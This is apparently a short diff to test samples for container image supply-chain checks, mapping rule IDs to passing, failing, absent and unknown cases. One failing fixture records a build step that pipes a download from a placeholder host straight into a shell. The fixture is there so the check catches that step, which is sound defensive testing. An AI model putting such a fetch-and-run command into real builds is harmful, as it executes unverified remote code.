@@ -47,7 +47,7 @@ SAMPLES: Samples = {
     "cis-ssc-3.1.1": (
         passes({**ROOT, **RECORD}, history=["COPY base / # buildkit"]),
         fails(ROOT, history=["RUN /bin/sh -c curl https://example.org/x | sh # buildkit"]),
-        absent({"app": b"x"}),
+        absent({"app": b"x"}, history=["COPY app /app"]),
         unknown(None),
     ),
     "s2c2f-AUD-4": (passes(_sbom("1")), fails(_sbom("2")), unknown(ROOT)),
